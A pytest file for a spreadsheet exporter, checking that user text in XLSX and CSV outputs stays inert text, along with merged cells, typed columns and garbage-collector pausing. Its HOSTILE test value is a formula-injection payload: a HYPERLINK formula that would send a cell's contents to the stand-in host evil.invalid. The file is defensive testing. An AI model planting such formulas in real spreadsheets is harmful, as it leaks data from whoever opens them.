"""A person's text in our own spreadsheets (the plan table, the report) is text, never a live formula."""
from __future__ import annotations

import gc
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from engine.plans.exporter import collector_paused, write_xlsx
from engine.scoring.report import xlsx as report_xlsx
from engine.store import cells
from engine.store.models import Target
from tests import factories as f

HOSTILE = '=HYPERLINK("http://evil.invalid/?leak="&B3,"点此查看")'


def _formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]


def test_plan_title_and_target_text_stay_text_in_both_spreadsheets(session):
    target = f.target(session)
    plan = session.get(type(f.plan(session)), target.plan_id)
    plan.title = HOSTILE
    target.text = "=1+1"
    session.add_all([plan, target])
    session.commit()
    for data in (write_xlsx(session, plan.id), report_xlsx(session=session, plan_id=plan.id)):
        assert _formulas(data) == []
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        assert sheet["A1"].value == HOSTILE and sheet["A1"].data_type == "s"
        assert any(c.value == "=1+1" and c.data_type == "s" for row in sheet.iter_rows() for c in row)


def test_csv_values_that_would_run_get_an_apostrophe():
    assert [cells.inert(v) for v in ("=1", "+1", "-1", "@A", "\tx", "普通", 5)] == \
        ["'=1", "'+1", "'-1", "'@A", "'\tx", "普通", 5]


def test_category_indicator_and_basis_merge_down_their_rows_every_cell_bordered(session):
    for code, category, indicator in (("1-1", "重点工作", "教育"), ("1-2", "重点工作", "教育"), ("1-3", "重点工作", "卫生"),
                                      ("2-1", "共性指标", "党建")):
        f.target(session, code=code, category=category, indicator=indicator, basis="市委部署")
    plan_id = session.exec(select(Target.plan_id)).first()
    sheet = load_workbook(io.BytesIO(write_xlsx(session, plan_id))).worksheets[0]
    assert sorted(str(r) for r in sheet.merged_cells.ranges) == sorted(["A1:J1", "B3:B5", "C3:C4", "D3:D4"])
    assert [sheet.cell(r, 2).value for r in range(3, 7)] == ["重点工作", None, None, "共性指标"]
    assert [sheet.cell(r, 3).value for r in range(3, 7)] == ["教育", None, "卫生", "党建"]
    assert [sheet.cell(r, 1).value for r in range(3, 7)] == ["1-1", "1-2", "1-3", "2-1"]
    assert all(sheet.cell(r, c).border.left.style == "thin" for r in range(3, 7) for c in range(1, 11))


def test_extra_columns_are_written_by_type(session):
    target = f.target(session)
    extra = [("数", lambda t: Decimal("1.5")), ("整数", lambda t: 3), ("日", lambda t: date(2024, 5, 6)),
             ("是否", lambda t: True), ("空", lambda t: ""), ("无", lambda t: None)]
    data = write_xlsx(session, target.plan_id, extra=extra, sheets=[("附表", ["甲", "乙"], [[Decimal("2.5"), None]])])
    book = load_workbook(io.BytesIO(data))
    row = [c.value for c in book.worksheets[0][3]][-len(extra):]
    assert row == [1.5, 3, "2024-05-06", True, None, None]
    assert [[c.value for c in r] for r in book["附表"].iter_rows()] == [["甲", "乙"], [2.5, None]]


def test_the_collector_is_held_off_while_files_are_made_and_runs_again_as_it_was():
    was = gc.isenabled()
    try:
        gc.enable()
        with collector_paused():
            assert not gc.isenabled()
            with collector_paused():  # a second file made meanwhile (another request)
                assert not gc.isenabled()
            assert not gc.isenabled()  # the first is not made yet
        assert gc.isenabled()
        with pytest.raises(RuntimeError), collector_paused():
            raise RuntimeError("失败")
        assert gc.isenabled()
        gc.disable()  # held off by someone else: left so
        with collector_paused():
            pass
        assert not gc.isenabled()
    finally:
        (gc.enable if was else gc.disable)()
